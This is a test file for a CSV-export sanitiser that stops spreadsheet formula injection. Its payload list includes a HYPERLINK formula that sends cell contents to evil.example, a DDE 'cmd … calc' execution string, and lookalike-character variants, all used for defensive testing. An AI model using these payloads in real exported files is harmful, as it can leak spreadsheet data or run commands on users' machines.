"""CSV for spreadsheets: no cell is a formula, whatever labels and column names are; and nothing is lost."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedinfer.cli.spreadsheet import csv_text, plain_cell, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"ill")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "-", "=",
    "\t=1", "\r=1", "\n=1", " =1", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff201", "a;=1", "a\t=1", 'a",=1',
    "a\n=1", "a\r=1", "x|-1+1", "-1-1", "+5x", "'=1",
]  # fmt: skip
NUMBERS = ["-5", "+5", "0", "1.25", "-1e-05", "+2.5E+10", "007"]
SEPARATORS = re.compile('[,;|\t\r\n"]')
odd = st.text(st.sampled_from("ab'=+-@ ;,|\t\r\n\"\uff1d05"), max_size=12) | st.text(max_size=8)


def pieces(text: str) -> list[str]:
    """The cells that any locale's spreadsheet may make of a text."""
    return [piece.lstrip(" ") for piece in SEPARATORS.split(text)]


@given(odd)
def test_no_piece_of_a_cell_is_a_formula_and_the_text_comes_back(text: str) -> None:
    cell = safe_cell(text)
    assert plain_cell(cell) == text
    if cell != text or not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", text):
        assert not any(piece[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") for piece in pieces(cell) if piece)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_text_in_every_column(text: str) -> None:
    written = csv_text(["row", text], [{"row": -1, text: text}])
    header, row = csv.reader(io.StringIO(written, newline=""))
    assert header[0] == "row"
    assert row[0] == "-1"
    for cell in (header[1], row[1]):
        assert plain_cell(cell) == text
        assert cell != text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers(text: str) -> None:
    assert safe_cell(text) == plain_cell(text) == text
    for value in (float(text), -3, True, None):
        assert safe_cell(value) is value
